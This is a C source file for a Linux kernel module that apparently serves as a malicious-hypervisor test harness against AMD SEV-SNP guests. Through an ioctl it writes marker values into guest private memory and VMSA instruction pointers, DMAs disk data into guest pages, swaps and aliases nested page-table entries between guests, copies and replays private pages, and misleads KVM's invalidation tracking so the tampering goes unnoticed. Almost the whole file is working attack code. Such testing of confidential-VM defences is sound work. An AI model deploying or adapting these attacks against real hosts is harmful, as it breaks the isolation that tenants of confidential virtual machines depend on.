// SPDX-License-Identifier: GPL-2.0
/*
 * A malicious host: attacks on SNP guests that run, without the knowledge of KVM and of userspace.
 *
 * Which pages are a guest's is read from its nested page tables and from the RMP. KVM's part is to survive what is
 * done here; whether the guest is hurt is for lab/host/guests/attack-host to see.
 */
#include <linux/bio.h>
#include <linux/blkdev.h>
#include <linux/fs.h>
#include <linux/kvm_host.h>
#include <linux/miscdevice.h>
#include <linux/module.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

#include <asm/snp_host.h>

#include "svm/svm.h"

#include "snp_attacker.h"

#define NPT_ADDRESS	GENMASK_ULL(50, PAGE_SHIFT)
#define NPT_PRESENT	BIT_ULL(0)
#define NPT_USED	(BIT_ULL(5) | BIT_ULL(6))	/* set by processors */
#define NPT_LARGE	BIT_ULL(7)
#define VMSA_RIP	0x178
#define EVIL		0xe1e1e1e1e1e1e1e1ULL
#define MAX_LEAVES	SZ_512K
#define DMA_PAGES	256

static char *disk = "/dev/vdb";
module_param(disk, charp, 0444);

/* A private page as the nested page tables map it */
struct leaf {
	u64 *entry;
	u64 value;
	u64 gpa;
	int level;
	u64 forged;		/* what REMAP and ALIAS have put there */
	void *copy;		/* what COPY has read there */
};

struct leaves {
	struct leaf *leaf;
	unsigned int count;
	u32 asid;
};

static DEFINE_MUTEX(lock);
/* What UNDO and REPLAY work on */
static struct leaves changed, copied;

static u64 pfn_of(u64 entry)
{
	return (entry & NPT_ADDRESS) >> PAGE_SHIFT;
}

static unsigned int pages_of(int level)
{
	return level == PG_LEVEL_2M ? PTRS_PER_PMD : 1;
}

static u32 asid_of(struct kvm *kvm)
{
	return to_kvm_svm(kvm)->sev_info.asid;
}

/* The first page from @pfn on that is assigned to a guest */
static bool find_page(u32 asid, u64 *pfn, struct snp_rmp_state *rmp)
{
	for (; !snp_read_rmp(*pfn, rmp); ++*pfn) {
		if (!(*pfn % PTRS_PER_PMD))
			cond_resched();
		if (rmp->assigned && rmp->asid == asid)
			return true;
	}
	return false;
}

/* Pages of 4 KiB, those in large ones too. By the RMP, since VMSAs are in no page table. */
#define for_each_page_of(asid, pfn, rmp) \
	for ((pfn) = 0; find_page(asid, &(pfn), &(rmp)); (pfn)++)

static void found(struct leaves *all, u64 *entry, u64 value, u64 gpa, int level)
{
	struct snp_rmp_state rmp;

	if (all->count == MAX_LEAVES || level > PG_LEVEL_2M || snp_read_rmp(pfn_of(value), &rmp))
		return;
	if (!rmp.assigned || rmp.immutable || rmp.asid != all->asid || rmp.level != level || rmp.gpa != gpa)
		return;
	all->leaf[all->count++] = (struct leaf) { .entry = entry, .value = value, .gpa = gpa, .level = level };
}

static void walk(struct leaves *all, u64 *table, u64 gpa, int level)
{
	int i;

	for (i = 0; i < PTRS_PER_PTE; i++, gpa += page_level_size(level)) {
		u64 value = READ_ONCE(table[i]);

		if (!(value & NPT_PRESENT))
			continue;
		if (level == PG_LEVEL_4K || value & NPT_LARGE)
			found(all, &table[i], value, gpa, level);
		else
			walk(all, __va(value & NPT_ADDRESS), gpa, level - 1);
	}
}

static void drop(struct leaves *all)
{
	while (all->count)
		vfree(all->leaf[--all->count].copy);
	vfree(all->leaf);
	all->leaf = NULL;
}

/* The private pages that a guest's first processor has mapped. The caller frees them. */
static int collect(struct kvm *kvm, struct leaves *all)
{
	struct kvm_vcpu *vcpu = kvm_get_vcpu(kvm, 0);
	struct kvm_mmu *mmu;

	*all = (struct leaves) { .asid = asid_of(kvm) };
	if (!vcpu)
		return -ENOENT;
	all->leaf = vmalloc(array_size(MAX_LEAVES, sizeof(*all->leaf)));
	if (!all->leaf)
		return -ENOMEM;
	mmu = vcpu->arch.mmu;
	write_lock(&kvm->mmu_lock);
	if (VALID_PAGE(mmu->root.hpa))
		walk(all, __va(mmu->root.hpa & NPT_ADDRESS), 0, mmu->root_role.level);
	write_unlock(&kvm->mmu_lock);
	if (all->count)
		return 0;
	drop(all);
	return -ENOENT;
}

static bool write_at(void *address)
{
	u64 evil = EVIL;

	__put_kernel_nofault(address, &evil, u64, refused);
	return true;
refused:
	return false;
}

/* Of large pages some parts are enough. */
static int attack_write(struct kvm *kvm, struct snp_attack_args *args)
{
	u32 asid = asid_of(kvm);
	struct snp_rmp_state rmp;
	u64 pfn;

	for_each_page_of(asid, pfn, rmp) {
		if (rmp.level == PG_LEVEL_2M && pfn % 64)
			continue;
		args->tried++;
		args->done += write_at(pfn_to_kaddr(pfn) + (rmp.vmsa ? VMSA_RIP : 8 * (pfn % PTRS_PER_PTE)));
	}
	return 0;
}

static int read_disk(struct block_device *bdev, struct page *page)
{
	struct bio *bio = bio_alloc(bdev, 1, REQ_OP_READ, GFP_KERNEL);
	int r;

	bio->bi_iter.bi_sector = 8;
	__bio_add_page(bio, page, PAGE_SIZE, 0);
	r = submit_bio_wait(bio);
	bio_put(bio);
	return r;
}

/* Whether the device can tell that its data went nowhere is up to the device: nothing counts as done. */
static int attack_dma(struct kvm *kvm, struct snp_attack_args *args)
{
	struct block_device *bdev;
	struct leaves all;
	unsigned int i;
	int r;

	bdev = blkdev_get_by_path(disk, FMODE_READ, NULL);
	if (IS_ERR(bdev))
		return PTR_ERR(bdev);
	r = collect(kvm, &all);
	for (i = 0; !r && i < all.count; i += all.count / DMA_PAGES + 1, args->tried++)
		read_disk(bdev, pfn_to_page(pfn_of(all.leaf[i].value)));
	if (!r)
		drop(&all);
	blkdev_put(bdev, FMODE_READ);
	return r;
}

static void forge(struct leaf *leaf, u64 pfn)
{
	leaf->forged = (leaf->value & ~NPT_ADDRESS) | PFN_PHYS(pfn);
	WRITE_ONCE(*leaf->entry, leaf->forged);
}

/*
 * KVM would find that its page tables are not as it left them, and die of that. As long as it believes that a change
 * of all gfns is under way it lets the guest repeat the access.
 */
static void hold(struct kvm *kvm, int count)
{
	lockdep_assert_held_write(&kvm->mmu_lock);
	kvm->gfn_invalidate_in_progress += count;
	kvm->gfn_invalidate_start = 0;
	kvm->gfn_invalidate_end = -1ULL;
}

/* Have the guest's page tables in @changed, with mmu_lock taken if that works; change_end() releases it. */
static int change_begin(struct kvm *kvm)
{
	int r;

	drop(&changed);
	r = collect(kvm, &changed);
	if (r)
		return r;
	write_lock(&kvm->mmu_lock);
	hold(kvm, 1);
	return 0;
}

static void change_end(struct kvm *kvm)
{
	write_unlock(&kvm->mmu_lock);
	kvm_flush_remote_tlbs(kvm);
}

static int attack_hold(struct kvm *kvm, struct snp_attack_args *args)
{
	int r = change_begin(kvm);

	if (r)
		return r;
	args->tried = changed.count;
	change_end(kvm);
	return 0;
}

static int attack_remap(struct kvm *kvm, struct snp_attack_args *args)
{
	struct leaf *a, *b;
	unsigned int i;
	int r;

	r = change_begin(kvm);
	if (r)
		return r;
	for (i = 0; i + 1 < changed.count; i += 2) {
		a = &changed.leaf[i];
		b = &changed.leaf[i + 1];
		if (a->level != b->level)
			continue;
		forge(a, pfn_of(b->value));
		forge(b, pfn_of(a->value));
		args->tried += 2;
	}
	change_end(kvm);
	return 0;
}

static int attack_alias(struct kvm *kvm, struct kvm *other, struct snp_attack_args *args)
{
	struct leaves victim;
	unsigned int i, at;
	int r;

	r = collect(kvm, &victim);
	if (r)
		return r;
	r = change_begin(other);
	if (r)
		goto out;
	for (i = 0, at = 0; i < changed.count; i++) {
		while (at < victim.count && victim.leaf[at].level != changed.leaf[i].level)
			at++;
		if (at == victim.count) {
			at = 0;
			continue;
		}
		forge(&changed.leaf[i], pfn_of(victim.leaf[at++].value));
		args->tried++;
	}
	change_end(other);
out:
	drop(&victim);
	return r;
}

/*
 * What is not as it was left stays. KVM zaps a large page that an RMP violation has hit, since its sizes may differ:
 * there is nothing to undo then.
 */
static int attack_undo(struct kvm *kvm, struct snp_attack_args *args)
{
	struct leaf *leaf;
	u64 now;

	write_lock(&kvm->mmu_lock);
	hold(kvm, -1);
	for (leaf = changed.leaf; leaf < changed.leaf + changed.count; leaf++) {
		args->tried++;
		now = READ_ONCE(*leaf->entry);
		if (leaf->forged && now & NPT_PRESENT) {
			if ((now | NPT_USED) != (leaf->forged | NPT_USED))
				continue;
			WRITE_ONCE(*leaf->entry, leaf->value);
		}
		args->done++;
	}
	change_end(kvm);
	drop(&changed);
	return 0;
}

static int attack_copy(struct kvm *kvm, struct snp_attack_args *args)
{
	unsigned int i;
	int r;

	drop(&copied);
	r = collect(kvm, &copied);
	if (r)
		return r;
	for (i = 0; i < copied.count; i += 4) {
		struct leaf *leaf = &copied.leaf[i];
		size_t size = PAGE_SIZE * pages_of(leaf->level);

		leaf->copy = vmalloc(size);
		if (!leaf->copy)
			return -ENOMEM;
		memcpy(leaf->copy, pfn_to_kaddr(pfn_of(leaf->value)), size);
		args->tried++;
		cond_resched();
	}
	return 0;
}

/* The VMM is stopped: nobody finds a page that is the host's. */
static int replay(struct leaf *leaf)
{
	u64 pfn = pfn_of(leaf->value);
	int r;

	r = rmp_make_shared(pfn, leaf->level);
	if (r)
		return r;
	memcpy(pfn_to_kaddr(pfn), leaf->copy, PAGE_SIZE * pages_of(leaf->level));
	return rmp_make_private(pfn, leaf->gpa, leaf->level, copied.asid, false);
}

/* What was private when it was copied may be shared now, or split. */
static int attack_replay(struct snp_attack_args *args)
{
	struct snp_rmp_state rmp;
	struct leaf *leaf;

	for (leaf = copied.leaf; leaf < copied.leaf + copied.count; leaf++) {
		if (!leaf->copy || snp_read_rmp(pfn_of(leaf->value), &rmp))
			continue;
		if (!rmp.assigned || rmp.immutable || rmp.asid != copied.asid || rmp.level != leaf->level)
			continue;
		args->tried++;
		args->done += !replay(leaf);
		cond_resched();
	}
	drop(&copied);
	return 0;
}

/* The host cannot write a VMSA, so it takes the page, writes, and assigns it to the guest again. */
static int forge_vmsa(u64 pfn, struct snp_rmp_state *rmp)
{
	int r = rmp_make_shared(pfn, PG_LEVEL_4K);

	if (r)
		return r;
	*(u64 *)(pfn_to_kaddr(pfn) + VMSA_RIP) = EVIL;
	return rmp_make_private(pfn, rmp->gpa, PG_LEVEL_4K, rmp->asid, false);
}

static int attack_forge(struct kvm *kvm, struct snp_attack_args *args)
{
	u32 asid = asid_of(kvm);
	struct snp_rmp_state rmp;
	u64 pfn;

	for_each_page_of(asid, pfn, rmp) {
		if (!rmp.vmsa || rmp.immutable)
			continue;
		args->tried++;
		args->done += !forge_vmsa(pfn, &rmp);
	}
	return 0;
}

static int attack(struct kvm *kvm, struct kvm *other, struct snp_attack_args *args)
{
	/* 0 is the firmware's */
	if (!asid_of(kvm) || !asid_of(other))
		return -ENOENT;
	switch (args->what) {
	case SNP_ATTACK_WRITE:
		return attack_write(kvm, args);
	case SNP_ATTACK_DMA:
		return attack_dma(kvm, args);
	case SNP_ATTACK_HOLD:
		return attack_hold(kvm, args);
	case SNP_ATTACK_REMAP:
		return attack_remap(kvm, args);
	case SNP_ATTACK_ALIAS:
		return attack_alias(kvm, other, args);
	case SNP_ATTACK_UNDO:
		return attack_undo(kvm, args);
	case SNP_ATTACK_COPY:
		return attack_copy(kvm, args);
	case SNP_ATTACK_REPLAY:
		return attack_replay(args);
	case SNP_ATTACK_FORGE:
		return attack_forge(kvm, args);
	}
	return -EINVAL;
}

static long attacker_ioctl(struct file *file, unsigned int cmd, unsigned long argument)
{
	void __user *user = (void __user *)argument;
	struct snp_attack_args args;
	struct file *vm, *other;
	long r = -EBADF;

	if (cmd != SNP_ATTACK)
		return -ENOTTY;
	if (copy_from_user(&args, user, sizeof(args)))
		return -EFAULT;
	args.tried = args.done = 0;
	/* Who may load this has looked at what the descriptors are. */
	vm = fget(args.vm);
	other = fget(args.other);
	if (vm && other) {
		mutex_lock(&lock);
		r = attack(vm->private_data, other->private_data, &args);
		mutex_unlock(&lock);
	}
	if (vm)
		fput(vm);
	if (other)
		fput(other);
	if (!r && copy_to_user(user, &args, sizeof(args)))
		r = -EFAULT;
	return r;
}

static const struct file_operations attacker_fops = {
	.owner = THIS_MODULE,
	.unlocked_ioctl = attacker_ioctl,
};

static struct miscdevice attacker = {
	.minor = MISC_DYNAMIC_MINOR,
	.name = "snp-attacker",
	.fops = &attacker_fops,
};

static int __init attacker_init(void)
{
	return misc_register(&attacker);
}
module_init(attacker_init);

static void __exit attacker_exit(void)
{
	misc_deregister(&attacker);
	drop(&changed);
	drop(&copied);
}
module_exit(attacker_exit);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Attacks of a host on its SEV-SNP guests");
